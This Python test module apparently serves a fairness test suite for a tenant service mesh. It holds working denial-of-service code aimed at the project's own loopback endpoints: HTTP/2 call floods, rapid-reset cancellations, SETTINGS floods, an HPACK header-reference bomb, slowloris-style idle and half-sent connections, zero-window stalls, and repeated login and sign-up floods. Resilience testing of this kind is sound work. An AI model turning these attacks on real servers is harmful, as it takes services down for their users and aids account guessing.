"""What the loud tenant and strangers do, one function per shape. Each runs in a process of its own until it is killed.

Floods of calls write bytes that were made in advance, since a client that makes each call would be slower than what it
attacks.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import resource
import sys
import time
from collections.abc import Callable, Coroutine
from typing import Any

import h2.exceptions
import h2.settings
import hpack
from h2.errors import ErrorCodes

from tenantmesh.tenant.v1 import entitlement_service_pb2
from tests.fairness.healthy import GRPC, SERVICES
from tests.fairness.http2 import Connection, framed
from tests.fairness.scene import JSON, LOUD, PASSWORD, Scene

__all__ = ["ATTACKERS"]

CHECK = f"{SERVICES}.EntitlementService/CheckEntitlement"
WATCH = f"{SERVICES}.EntitlementService/WatchEntitlements"
ENTITLEMENTS = f"{SERVICES}.EntitlementService/GetEntitlements"
ABOUT_LOUD = framed(entitlement_service_pb2.CheckEntitlementRequest(id=LOUD, feature="core").SerializeToString())
"""Asks about the loud tenant; its first field is that of every request here."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
"""Kinds of frames."""
END_STREAM = ACK = 1
END_HEADERS = 4
FLOODING_CONNECTIONS, IN_FLIGHT = 30, 90
BURSTING_CONNECTIONS, BURST_SECONDS = 6, 2.0
SILENT_CONNECTIONS = 3_400
REOPEN_SECONDS = 5
BOMBS_A_SECOND = 80
"""Of each connection that sends them."""
HALF_SENT = 400
CANCELLED_IN_FLIGHT = 64
ADDRESSES = 40
"""Network addresses that attackers of sign-ins have."""


def address(number: int = 0) -> str:
    """Return an address of an attacker."""
    return f"127.0.1.{1 + number % 250}"


def headers(scene: Scene) -> dict[str, str]:
    """Return the headers of a call of the loud tenant's user."""
    return GRPC | {"authorization": f"Bearer {scene.loud_token}"}


async def flood(scene: Scene, method: str, where: str, who: str) -> None:
    """Call a method from 30 connections, with 90 calls in flight on each, as fast as they are answered."""
    place = scene.edge if where == "edge" else scene.tenant_svc
    block = _headers_block(scene, f"{SERVICES}.{method}", signed_in=who == "user")
    await _each(FLOODING_CONNECTIONS, lambda _number: _flood_one(place, block))


async def bursts(scene: Scene) -> None:
    """Send some 500 reads at once, as many as the edge lets through, and as many again every two seconds."""
    block = _headers_block(scene, ENTITLEMENTS)
    await _each(BURSTING_CONNECTIONS, lambda _number: _burst(scene.edge, block))


async def _burst(place: tuple[str, int], block: bytes) -> None:
    reader, writer = await _open(place)
    streams = itertools.count(1, 2)
    drained = asyncio.create_task(_answer_pings(reader, writer))
    while not drained.done():
        writer.write(b"".join(_call(next(streams), block) for _ in range(IN_FLIGHT)))
        await asyncio.sleep(BURST_SECONDS - time.monotonic() % BURST_SECONDS)  # all connections at once
    await drained


async def _answer_pings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(asyncio.IncompleteReadError):
        while True:
            head = await reader.readexactly(9)
            kind, flags, body = head[3], head[4], await reader.readexactly(int.from_bytes(head[:3], "big"))
            if kind in {SETTINGS, PING} and not flags & ACK:
                writer.write(_frame(kind, ACK, 0, body if kind == PING else b""))


def _headers_block(scene: Scene, path: str, *, signed_in: bool = True) -> bytes:
    named = [(name, value) for name, value in headers(scene).items() if signed_in or name != "authorization"]
    fixed = [(":method", "POST"), (":scheme", "http"), (":authority", "mesh.test"), (":path", path)]
    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*each) for each in [*fixed, *named]]))


async def _open(place: tuple[str, int]) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Return a connection on which answers of any length are welcome."""
    reader, writer = await asyncio.open_connection(*place, local_addr=(address(), 0))
    wide = (2**31 - 1).to_bytes(4, "big")
    writer.write(PREFACE + _frame(4, 0, 0, b"\0\4" + wide) + _frame(8, 0, 0, (2**31 - 1 - 65_535).to_bytes(4, "big")))
    return reader, writer


async def _flood_one(place: tuple[str, int], block: bytes) -> None:
    reader, writer = await _open(place)
    streams = itertools.count(1, 2)
    writer.write(b"".join(_call(next(streams), block) for _ in range(IN_FLIGHT)))
    try:
        while True:
            head = await reader.readexactly(9)
            kind, flags, body = head[3], head[4], await reader.readexactly(int.from_bytes(head[:3], "big"))
            if kind == RST_STREAM or (kind in {DATA, HEADERS} and flags & END_STREAM):
                writer.write(_call(next(streams), block))
            elif kind in {SETTINGS, PING} and not flags & ACK:
                writer.write(_frame(kind, ACK, 0, body if kind == PING else b""))
            await writer.drain()
    except asyncio.IncompleteReadError:
        writer.close()


def _call(stream: int, block: bytes) -> bytes:
    return _frame(HEADERS, END_HEADERS, stream, block) + _frame(DATA, END_STREAM, stream, ABOUT_LOUD)


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


async def cancelled_calls(scene: Scene) -> None:
    """Keep 64 calls in flight on one connection, and cancel each after 1 to 10 ms."""
    connection = await Connection(*scene.edge, address()).open()

    async def call_and_cancel(number: int) -> None:
        for turn in itertools.count(number):
            milliseconds = 1 + turn % 10
            if connection.lost:
                return
            deadline = {"grpc-timeout": f"{milliseconds}m"}
            stream = connection.begin(CHECK, headers(scene) | deadline, ABOUT_LOUD)
            await asyncio.sleep(milliseconds / 1000)
            with contextlib.suppress(h2.exceptions.ProtocolError):
                connection.h2.reset_stream(stream, ErrorCodes.CANCEL)
                connection.flush()

    while True:
        await asyncio.gather(*map(call_and_cancel, range(CANCELLED_IN_FLIGHT)), return_exceptions=True)
        connection = await Connection(*scene.edge, address()).open()


async def silent_connections(scene: Scene) -> None:
    """Open connections and say nothing; open one anew some seconds after the other side has closed it."""
    _allow_many_files()
    await _each(SILENT_CONNECTIONS, lambda number: _hold(scene, number, b""))


async def half_sent_requests(scene: Scene) -> None:
    """Send a part of a request, of either version of HTTP, and no more."""
    _allow_many_files()
    parts = [b"POST /api/v1/auth/login HTTP/1.1\r\nhost: mesh\r\ncontent-le", PREFACE + b"\0\0\0\4\0\0\0\0\0\0\0\4\1"]
    await _each(HALF_SENT, lambda number: _hold(scene, number, parts[number % 2]))


async def half_sent_calls(scene: Scene) -> None:
    """Begin calls, and never send the message."""

    async def fill(number: int) -> None:
        connection = await Connection(*scene.edge, address(number)).open()
        while not connection.lost:
            stream = connection.h2.get_next_available_stream_id()
            fixed = {":method": "POST", ":scheme": "http", ":authority": "mesh", ":path": CHECK}
            with contextlib.suppress(h2.exceptions.ProtocolError):
                connection.h2.send_headers(stream, [*fixed.items(), *headers(scene).items()])
                connection.flush()
            await asyncio.sleep(0.02)

    await _each(30, fill)


async def watches(scene: Scene) -> None:
    """Open as many watches as the other side accepts."""

    async def watch(number: int) -> None:
        connection = await Connection(*scene.edge, address(number)).open()
        for _ in range(90):
            connection.begin(WATCH, headers(scene), framed())
            await asyncio.sleep(0.01)
        while not connection.lost:
            await asyncio.sleep(0.1)

    await _each(20, watch)


async def unread_answers(scene: Scene) -> None:
    """Ask for answers, and give the other side no room to send them."""

    async def ask(number: int) -> None:
        connection = await Connection(*scene.edge, address(number)).open()
        connection.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        connection.flush()
        for _ in range(90):
            connection.begin(ENTITLEMENTS, headers(scene), ABOUT_LOUD)
            await asyncio.sleep(0.01)
        while not connection.lost:
            await asyncio.sleep(0.1)

    await _each(60, ask)


async def guessed_passwords(scene: Scene) -> None:
    """Sign in to the loud tenant with unknown addresses, from many places, each within its own limit."""

    async def guess(number: int) -> None:
        connection = await Connection(*scene.edge, address(number)).open()
        for turn in itertools.count():
            body = json.dumps({"email": f"nobody-{number}-{turn}@people.example", "password": PASSWORD}).encode()
            await connection.ask(f"/api/v1/auth/login?tenant={LOUD}", JSON, body)
            await asyncio.sleep(0.2)

    await _each(ADDRESSES, guess)


async def registrations(scene: Scene) -> None:
    """Sign up at the loud tenant, from many places, each within its own limit."""

    async def sign_up(number: int) -> None:
        connection = await Connection(*scene.edge, address(number)).open()
        for turn in itertools.count():
            body = json.dumps({"email": f"new-{number}-{turn}@people.example", "password": PASSWORD}).encode()
            await connection.ask(f"/api/v1/auth/register?tenant={LOUD}", JSON, body)
            await asyncio.sleep(0.2)

    await _each(ADDRESSES, sign_up)


async def settings_flood(scene: Scene) -> None:
    """Send nothing but settings, all of which must be acknowledged."""
    await _each(8, lambda number: _repeat(scene.edge, number, _frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64") * 1000))


async def header_references(scene: Scene) -> None:
    """Send small header blocks that refer to one large header thousands of times (HPACK)."""
    await _each(8, lambda number: _repeat(scene.edge, number, b"", stream_frames=True))


async def references_at_the_service(scene: Scene) -> None:
    """The same at the port of a service, past the edge."""
    await _each(2, lambda number: _repeat(scene.tenant_svc, number, b"", stream_frames=True))


def _bomb(stream: int) -> bytes:
    """Return a HEADERS frame: a table entry of 3,900 bytes first, then 12,000 references to it."""
    name, value = b"x-large", b"v" * 3_900
    entry = b"\x40" + bytes([len(name)]) + name + b"\x7f" + _integer(len(value) - 127) + value
    block = entry + b"\xbe" * 12_000
    return _frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def _integer(value: int) -> bytes:
    """Return the rest of an HPACK integer."""
    written = b""
    while value >= 128:
        written += bytes([value % 128 + 128])
        value //= 128
    return written + bytes([value])


async def _repeat(place: tuple[str, int], number: int, frames: bytes, *, stream_frames: bool = False) -> None:
    """Write frames again and again, on a new connection when the other side closes one."""
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(*place, local_addr=(address(number), 0))
            draining = asyncio.create_task(_discard(reader))
            writer.write(PREFACE + b"\0\0\0\4\0\0\0\0\0")
            for turn in itertools.count():
                writer.write(_bomb(1 + 2 * turn) if stream_frames else frames)
                await writer.drain()
                if draining.done():
                    break
                if stream_frames:
                    await asyncio.sleep(1 / BOMBS_A_SECOND)
        await asyncio.sleep(0.01)


async def _discard(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


async def _hold(scene: Scene, number: int, first: bytes) -> None:
    """Keep a connection open that has said this much; make it anew when it is closed."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(*scene.edge, local_addr=(address(), 0))
            writer.write(first)
            await reader.read()
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(REOPEN_SECONDS + number % 100 / 100)


async def _each(number: int, attack: Callable[[int], Coroutine[Any, Any, None]]) -> None:
    """Run so many at once, for ever. One that fails begins again."""

    async def persist(one: int) -> None:
        while True:
            with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                await attack(one)
            await asyncio.sleep(0.1)

    await asyncio.gather(*map(persist, range(number)))


def _allow_many_files() -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


ATTACKERS: dict[str, Callable[[Scene], Coroutine[Any, Any, None]]] = {
    attack.__name__: attack
    for attack in (
        bursts,
        cancelled_calls,
        silent_connections,
        half_sent_requests,
        half_sent_calls,
        watches,
        unread_answers,
        guessed_passwords,
        registrations,
        settings_flood,
        header_references,
        references_at_the_service,
    )
}


def main() -> None:
    """Run the attack of the arguments until the process is killed."""
    scene = Scene.decoded(sys.stdin.readline())
    name, *options = sys.argv[1:]
    asyncio.run(flood(scene, *options) if name == "flood" else ATTACKERS[name](scene))


if __name__ == "__main__":
    main()
